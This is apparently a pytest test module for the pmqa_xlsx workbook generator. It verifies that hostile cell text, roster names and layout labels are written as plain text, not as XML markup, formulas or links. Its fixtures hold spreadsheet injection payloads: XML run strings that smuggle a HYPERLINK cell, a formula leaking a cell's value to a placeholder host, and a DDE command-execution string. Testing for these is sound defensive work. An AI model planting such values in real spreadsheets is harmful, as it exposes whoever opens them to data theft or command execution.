"""Nothing an agency typed, a roster names or a layout labels becomes markup, a formula or a
link in any workbook pmqa_xlsx writes (issue 10, class C).

xlsxwriter 3.3 writes a string shaped ``<r>…</r>`` into the XML unescaped. Each test writes
text of every hostile shape, then opens every XML part of the workbook with lxml: no formula
but ours, no rich-text run, no hyperlink element or relationship, and every text decodes
(OOXML's ``_xHHHH_``) to exactly what was given.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pandas as pd
import pytest
import xlsxwriter
import yaml
from click.testing import CliRunner

from pmqa_xlsx import LayoutError, build_cellmap, generate_roster, generate_workbook, parse_layout
from pmqa_xlsx.cellmap import CellMap
from pmqa_xlsx.cli import main
from pmqa_xlsx.consolidate import consolidate
from pmqa_xlsx.generate import Template, _footer, render_workbook
from pmqa_xlsx.identity import new_token
from pmqa_xlsx.layout import Layout, resolve_layout_path
from pmqa_xlsx.report import FRAME_NAMES, write_outputs
from pmqa_xlsx.roster import Agency
from pmqa_xlsx.xlsxtext import Workbook, attribute_text, ooxml_text

from .conftest import FIXED_TIME
from .fill import ticked
from .ooxml import Package, decode, inspect

# Cells injected through the rich-string pass-through: a run, a whole formula cell with a
# link, shared strings shifted by one, a run whose text is an escape.
INLINE_CELL = ('<r><t>x</t></r></is></c><c r="B1"><f>HYPERLINK("http://example.invalid",'
               '"y")</f></c><c r="C1" t="inlineStr"><is><r><t>z</t></r>')
SHARED_SHIFT = '<r><t>x</t></r></si><si><r><t>HYPERLINK</t></r>'
MARKUP = ["<r><t>run</t></r>", INLINE_CELL, SHARED_SHIFT, "<r><rPr><b/></rPr><t>_x0041_</t></r>",
          "<t>not a run</t>", "<", "<r>"]
ESCAPES = ["literal _x0041_ and _x005F_x0042_", "_x000D_ first", "last _xD800_"]
CONTROLS = ["ctrl \x01\x07\x1b[2J\x1f end", "line\r\nbreak\ttab", "\x0bvertical"]
FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"คลิก")', "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)", "=1+1"]
OTHER = ["  leading and trailing  ", "&amp; <b> ]]> <![CDATA[x]]> \"q\" 'a'",
         "non-characters \ufffe\uffff", "😀 astral ไทย", "http://example.invalid/link"]
SURROGATES = ["lone \udcff surrogate", "\ud800 high first", "low last \udfff"]
TYPED = MARKUP + ESCAPES + CONTROLS + FORMULAS + OTHER  # what an agency can type in a cell
EVERY_SHAPE = TYPED + SURROGATES


def assert_no_markup(package: Package, formulas: dict[tuple[str, str], str] | None = None) -> None:
    assert package.formulas == (formulas or {})
    assert package.runs == 0 and package.hyperlinks == 0


def test_the_hostile_strings_do_inject_through_plain_xlsxwriter(tmp_path: Path) -> None:
    """Why the rest of this module exists: xlsxwriter alone writes a live formula."""
    path = tmp_path / "plain.xlsx"
    with xlsxwriter.Workbook(path, {"constant_memory": True, "strings_to_formulas": False}) as wb:
        wb.add_worksheet().write_string(0, 0, INLINE_CELL)
    assert inspect(path).formulas == {("Sheet1", "B1"): 'HYPERLINK("http://example.invalid","y")'}


@pytest.mark.parametrize("options", [{"constant_memory": True}, {}, {"in_memory": True}],
                         ids=["inline-strings", "shared-strings", "in-memory"])
def test_every_shape_is_written_as_itself(tmp_path: Path, options: dict[str, bool]) -> None:
    path = tmp_path / "out.xlsx"
    target: Path | io.BytesIO = io.BytesIO() if options.get("in_memory") else path
    with Workbook(target if isinstance(target, io.BytesIO) else str(path), options) as book:
        sheet = book.add_worksheet("s")
        for row, text in enumerate(EVERY_SHAPE):
            sheet.write_string(row, 0, text)  # each way xlsxwriter writes a string
            sheet.write(row, 1, text)
            sheet.merge_range(row, 2, row, 3, text)
    package = inspect(target.getvalue() if isinstance(target, io.BytesIO) else path)
    assert_no_markup(package)
    for row, text in enumerate(EVERY_SHAPE, start=1):
        assert [package.cells["s"][f"{col}{row}"] for col in "ABC"] == [text] * 3, row
    assert not list(tmp_path.iterdir()) if isinstance(target, io.BytesIO) else True


def test_the_same_text_twice_is_one_shared_string(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    with Workbook(str(path)) as book:
        sheet = book.add_worksheet("s")
        for row in range(3):
            sheet.write_string(row, 0, INLINE_CELL)
    with zipfile.ZipFile(path) as package:
        assert package.read("xl/sharedStrings.xml").count(b"<si>") == 1
    assert [inspect(path).cells["s"][f"A{r}"] for r in (1, 2, 3)] == [INLINE_CELL] * 3


def test_text_over_excels_limit_is_cut_like_any_other(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    with Workbook(str(path)) as book:
        sheet = book.add_worksheet("s")
        assert sheet.write_string(0, 0, "<" + "ก" * 40_000) == -2  # as xlsxwriter reports it
        sheet.write_string(1, 0, "ก" * 40_000)
    cells = inspect(path).cells["s"]
    assert len(cells["A1"]) == len(cells["A2"]) == 32_767


def test_a_failed_block_assembles_nothing_and_leaves_no_temporary_file(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TMPDIR", str(tmp_path / "tmp"))
    (tmp_path / "tmp").mkdir()
    import tempfile
    monkeypatch.setattr(tempfile, "tempdir", None)
    with pytest.raises(KeyboardInterrupt), Workbook(str(tmp_path / "x.xlsx"),
                                                    {"constant_memory": True}) as book:
        book.add_worksheet("s").write_string(0, 0, INLINE_CELL)
        raise KeyboardInterrupt
    assert not (tmp_path / "x.xlsx").exists()
    assert not list((tmp_path / "tmp").iterdir())


@pytest.mark.parametrize("text", EVERY_SHAPE)
def test_ooxml_text_decodes_back_to_the_text(text: str) -> None:
    escaped = ooxml_text(text)
    assert "<" not in escaped and ">" not in escaped
    assert decode(escaped.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")) == text
    assert decode(attribute_text(text)) == text


# -- the consolidated workbook ------------------------------------------------------------------


def text_cells(cellmap: CellMap) -> list:
    return [c for c in cellmap.inputs() if c.kind == "text"]


@pytest.fixture(scope="module")
def hostile_round(layout: Layout, cellmap: CellMap,
                  tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str]]:
    """Returns whose text inputs hold every shape an agency can type, from agencies whose
    roster names are hostile too: {agency code: roster name}."""
    root = tmp_path_factory.mktemp("hostile")
    (root / "returns").mkdir()
    names = {f"H{i:03d}": name for i, name in enumerate(MARKUP + ESCAPES[:1] + FORMULAS[:1]
                                                        + OTHER[1:2])}
    fields = frozenset(f.id for f in layout.identity.fields if f.roster)
    answers = {(c.item_id, c.field_id): text for c, text in zip(text_cells(cellmap), TYPED,
                                                               strict=False)}
    template = Template(cellmap, fields, None, FIXED_TIME, {**ticked(cellmap), **answers})
    for code, name in names.items():
        agency = Agency(code=code, name=name, ministry=FORMULAS[-1])
        (root / "returns" / f"{code}.xlsx").write_bytes(template.personalise(agency))
    with (root / "roster.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["agency_code", "agency_name", "ministry"])
        writer.writerows([code, name, FORMULAS[-1]] for code, name in names.items())
    return root, names


def test_a_merge_writes_every_typed_shape_as_text(hostile_round: tuple[Path, dict[str, str]],
                                                  cellmap: CellMap) -> None:
    root, names = hostile_round
    result = CliRunner().invoke(main, ["merge", str(root / "returns"), "--roster",
                                       str(root / "roster.csv"), "-o", str(root / "out.xlsx"),
                                       "--csv", str(root / "csv")])
    assert result.exit_code == 0, result.output
    package = inspect(root / "out.xlsx")
    assert_no_markup(package)
    answers = package.cells["answers"]
    column = {answers[ref]: ref.rstrip("0123456789") for ref in answers if ref.endswith("1")
              and not ref[1:-1].isdigit()}
    for row in range(4, 4 + len(names)):
        for cell, text in zip(text_cells(cellmap), TYPED, strict=False):
            assert answers[f"{column[f'{cell.item_id} {cell.field_id}']}{row}"] == text
    returns = package.cells["returns"]
    assert {returns[f"C{r}"] for r in range(2, 2 + len(names))} == set(names.values())
    answers_csv = (root / "csv" / "answers.csv").read_text(encoding="utf-8-sig")
    for text in FORMULAS:
        assert '"\'' + text.replace('"', '""') + '"' in answers_csv


def test_text_no_frame_can_hold_still_reaches_the_workbook_and_csv(
        hostile_round: tuple[Path, dict[str, str]], tmp_path: Path) -> None:
    """Belt and braces: lone surrogates in answers (the reader stops them at the source) are
    written, not a crash: as themselves in the workbook, visibly escaped in CSV/Parquet."""
    root, _ = hostile_round
    merged = consolidate(root / "returns")
    values = merged.answers["value"].astype(object).tolist()
    texts = [i for i, v in enumerate(values) if isinstance(v, str)][:len(SURROGATES)]
    for i, text in zip(texts, SURROGATES, strict=True):
        values[i] = text
    merged.answers["value"] = pd.Series(values, dtype=object, index=merged.answers.index)
    written = write_outputs(merged, [], workbook=tmp_path / "out.xlsx", csv_dir=tmp_path / "csv",
                            parquet_dir=tmp_path / "pq")
    assert len(written) == 1 + 2 * len(FRAME_NAMES)  # the workbook, each frame's CSV and Parquet
    package = inspect(tmp_path / "out.xlsx")
    assert_no_markup(package)
    assert set(SURROGATES) <= package.texts()
    raw = (tmp_path / "csv" / "answers.csv").read_text(encoding="utf-8-sig")
    assert "lone \\udcff surrogate" in raw


# -- generated forms: roster names and layout labels --------------------------------------------


def our_formulas(cellmap: CellMap) -> dict[tuple[str, str], str]:
    return {(f.sheet, f.ref): f.formula.lstrip("=") for f in cellmap.formulas()}


ROSTER_NAMES = MARKUP + ESCAPES + FORMULAS + OTHER


@pytest.mark.parametrize("name", ROSTER_NAMES)
def test_a_roster_name_is_written_as_itself(cellmap: CellMap, name: str) -> None:
    agency = Agency(code="R001", name=name, ministry=f"{name} ministry")
    fields = frozenset({"agency_code", "agency_name", "ministry"})
    token = new_token()
    copy = Template(cellmap, fields, None, FIXED_TIME).personalise(agency, token)
    scratch = render_workbook(cellmap, agency=agency, generated_at=FIXED_TIME, token=token)
    for data in (copy, scratch):
        package = inspect(data)
        assert_no_markup(package, our_formulas(cellmap))
        first = cellmap.sheets[0].name
        for field_id, text in (("agency_name", name), ("ministry", agency.ministry)):
            assert package.cells[first][cellmap.identity_cell(field_id).ref] == text
        footer = _footer(cellmap.layout, agency)
        assert set(package.footers.values()) == {footer}
    assert parts(copy) == parts(scratch)  # the template swaps in what rendering writes


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {name: package.read(name) for name in package.namelist()}


def test_roster_copies_on_disk_hold_the_names_as_text(layout: Layout, cellmap: CellMap,
                                                      tmp_path: Path) -> None:
    agencies = [Agency(code=f"R{i:03d}", name=name) for i, name in enumerate(ROSTER_NAMES)]
    written = generate_roster(layout, agencies, tmp_path / "out", jobs=1,
                              generated_at=FIXED_TIME)
    cell = cellmap.identity_cell("agency_name").ref
    for generated in written:
        package = inspect(generated.path)
        assert_no_markup(package, our_formulas(cellmap))
        assert package.cells[cellmap.sheets[0].name][cell] == generated.agency.name


LABEL_SHAPES = MARKUP + ESCAPES + FORMULAS + OTHER[:2] + OTHER[3:]


def hostile_layout(texts: list[str]) -> tuple[Layout, set[str]]:
    """The bundled layout with the texts, in turn, as blanks' labels, items' topics and
    indicator tables' titles, and the first two as the form's title and a prompt."""
    data = yaml.safe_load(resolve_layout_path(None).read_text(encoding="utf-8"))
    items = [item for section in data["sheets"][0]["sections"] for item in section["items"]]
    places = [(blank, "label") for item in items for blank in item.get("blanks", [])]
    places += [(item, "topic") for item in items]
    places += [(table, "title") for table in data["sheets"][1]["tables"]]
    assert len(places) >= len(texts)
    used = set()
    for n, (node, key) in enumerate(places):
        node[key] = texts[n % len(texts)] + ("" if n < len(texts) else f" ({n})")
        used.add(node[key])
    data["form"]["title"] = texts[0]
    data["identity"]["fields"][-1]["prompt"] = texts[1 % len(texts)]
    dumped = yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10_000)
    return parse_layout(dumped, source="hostile.yaml"), used


def test_layout_labels_are_written_as_themselves(tmp_path: Path) -> None:
    layout, used = hostile_layout(LABEL_SHAPES)
    cellmap = build_cellmap(layout)
    path = tmp_path / "form.xlsx"
    generate_workbook(layout, path, generated_at=FIXED_TIME)
    package = inspect(path)
    assert_no_markup(package, our_formulas(cellmap))
    labels = {(label.sheet, xlsxwriter.utility.xl_rowcol_to_cell(label.row, label.col)):
              label.text for plan in cellmap.sheets for label in plan.labels}
    for (sheet, ref), text in labels.items():
        assert package.cells[sheet][ref] == text, (sheet, ref)
    assert used <= package.texts() and set(LABEL_SHAPES) <= used
    assert LABEL_SHAPES[1] in package.prompts[cellmap.sheets[0].name]
    assert {decode(f) for f in package.footers.values()} == {_footer(layout, None)}


@pytest.mark.parametrize("text", CONTROLS[:1] + CONTROLS[2:] + SURROGATES)
def test_a_layout_text_no_workbook_can_show_is_refused_with_its_place(text: str) -> None:
    with pytest.raises(LayoutError, match=r"\$\.sheets\[0\]\.sections\[0\]\.items\[0\]"
                                          r"\.blanks\[0\]\.label: holds the character U\+"):
        hostile_layout([text])
